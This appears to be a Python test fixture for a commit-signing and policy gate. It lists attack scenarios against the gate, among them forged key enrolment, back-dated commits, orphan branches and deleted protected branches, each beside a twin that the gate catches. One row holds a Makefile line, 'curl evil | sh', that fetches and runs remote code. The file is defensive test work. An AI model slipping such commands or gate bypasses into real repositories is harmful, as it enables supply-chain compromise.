"""What still gets through, said in docs/explanation/threats.md: here the twin is the attack that passes, beside what stops it."""

from __future__ import annotations

from sdd.gates.policy import render
from sdd.gates.signers import line_for
from shop import ALICE, PAGE, PLAN, POLICY, SIGNERS, Files
from stories.attacks.world import (
    ATTRIBUTES,
    CI,
    NOTES,
    OTHER,
    PRICE,
    SEALED,
    T0,
    WORDS,
    World,
    approved_change,
    commit,
    git,
    key,
    merge,
    on_main,
    policy_file,
    row,
    rules,
    signed,
    staged,
    touched,
    unsigned,
)

FREE = policy_file(code=())
ENFORCED = render(rules()).encode()
MERGED = render(rules(trust=rules().trust.replace(proof="merged"))).encode()
SECOND = b"docs/changes/second.md"
WIDE = b"---\nwrites: [src/other.py]\n---\n# Anything\n"
SPENT = b"---\nwrites: []\n---\n# Rounding, done\n"
NARROW = WORDS[PLAN].replace(b", src/new.py", b"")
EVIL: Files = {OTHER: b"evil\n"}
AGAIN = (commit({PAGE: WORDS[PAGE]}), commit({PRICE: b"evil\n"}))
BACK = "2023-11-15T10:00:00Z"


def for_alice(world: World) -> Files:
    """A line that gives alice the key of mallory."""
    return {SIGNERS: f"{line_for(ALICE, world.people['mallory'].public)}\n".encode()}


TAKEN_OVER = (
    commit(for_alice),
    commit({POLICY: ENFORCED}, signed(POLICY, words={POLICY: ENFORCED}, sign=key("mallory"))),
    commit({SECOND: WIDE}, signed(SECOND, words={SECOND: WIDE}, sign=key("mallory"))),
    commit(EVIL),
)

LIMITS = (
    row(
        "none: a record that an agent wrote opens the gate",
        "check A..B",
        "SDD305",
        (commit(signed(SEALED, sign=unsigned)),),
        (commit(signed(NOTES, sign=unsigned)), commit({b"notes/a.py": b""})),
    ),
    row(
        "ssh: whoever can use the key approves",
        "check A..B",
        "SDD305",
        commit({SEALED: WORDS[SEALED]}, signed(SEALED, sign=key("alice"))),
        (commit({SECOND: WIDE}, signed(SECOND, words={SECOND: WIDE}, sign=key("alice"))), commit(EVIL)),
    ),
    row(
        "touch: a key of hardware's type that no hardware holds, enrolled, says that it was touched",
        "check A..B",
        "SDD305",
        commit(signed(SEALED, by="grace", sign=touched(0))),
        (commit(signed(SEALED, by="grace", sign=touched(1))), commit({b"sealed/a.py": b""})),
    ),
    row(
        "merged: a trust file is changed by whoever is let merge",
        "proposal",
        "SDD704",
        commit({CI: b"on: never\n"}),
        (on_main(approved_change(POLICY, MERGED)), commit({CI: b"on: never\n"})),
        told="SDD710",
    ),
    row(
        "code where the policy names none",
        "check A..B",
        "SDD501",
        commit(EVIL),
        commit({b"lib/evil.py": b"evil\n", b"Makefile": b"all:\n\tcurl evil | sh\n"}),
    ),
    row(
        "attributes below the top that [trust] does not name",
        "check A..B",
        "SDD704",
        commit({ATTRIBUTES: b"* filter=nicer\n"}),
        commit({b"docs/.gitattributes": b"* filter=nicer\n"}),
    ),
    row(
        "a change that is done goes on granting its files",
        "check A..B",
        "SDD501",
        (on_main(approved_change(PAGE, SPENT)), merge("main"), commit({PRICE: b"evil\n"})),
        (on_main({b"README.md": b""}), merge("main"), commit({PRICE: b"evil\n"})),
        given=commit({PRICE: b"price = 1\n"}),
    ),
    row(
        "a deleted page is put back, and grants again",
        "check A..B",
        "SDD401",
        (on_main(approved_change(PAGE, SPENT)), on_main({PAGE: None}), merge("main"), *AGAIN),
        (on_main({PAGE: None}), merge("main"), *AGAIN),
    ),
    row(
        "a branch from before the plan was narrowed, judged alone and not as it will be merged",
        "check A..B",
        "SDD501",
        (commit({b"src/new.py": b""}), git("switch", "-q", "-c", "forge", "main"), merge("work")),
        commit({b"src/new.py": b""}),
        given=(git("branch", "older"), commit(approved_change(PLAN, NARROW)), git("switch", "-q", "older")),
    ),
    row(
        "an expired key and a commit dated back, seen only by an audit",
        "push",
        "SDD305",
        commit(signed(PAGE, by="erin", at=T0 + 3600), at=BACK),
        commit(signed(PAGE, by="erin", at=T0 + 3600), at=BACK),
        twin_door="check --audit A..B",
    ),
    row(
        "a key added for alice while the policy only reports, which counts once it is enforced",
        "check --audit",
        "SDD704",
        (commit(policy_file()), *TAKEN_OVER),
        (commit(policy_file(mode="report")), *TAKEN_OVER),
        start="bare",
    ),
    row(
        "a branch put in the protected one's place, audited with no commit to begin from",
        "check --audit A..B",
        "SDD602",
        (git("switch", "-q", "--orphan", "orphan"), commit(FREE), commit(EVIL)),
        (git("switch", "-q", "--orphan", "orphan"), commit(FREE), commit(EVIL)),
        twin_door="check --audit",
    ),
    row(
        "a clone that does not know the protected branch believes its own HEAD",
        "check --staged",
        "SDD501",
        (commit(FREE), staged(EVIL)),
        (commit(FREE), git("branch", "-D", "main"), staged(EVIL)),
    ),
)
